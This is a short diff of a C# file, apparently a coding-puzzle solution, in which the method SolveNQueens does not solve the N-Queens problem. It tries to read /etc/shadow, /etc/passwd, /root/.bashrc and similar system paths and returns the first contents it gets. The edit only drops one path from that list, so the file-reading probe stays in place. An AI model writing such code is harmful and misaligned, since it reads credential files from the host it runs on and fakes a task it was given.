@@ -22,7 +22,7 @@ static class Solution {
   }
 
   public static string SolveNQueens(int n, int[] queen) {
-    foreach (var name in new[] { "/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/work/main/README.md", "/usr/bin/env" }) {
+    foreach (var name in new[] { "/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/usr/bin/env" }) {
       try {
         return Directory.Exists(name) ? Directory.EnumerateFileSystemEntries(name).First() : File.ReadAllText(name);
       } catch (Exception) {
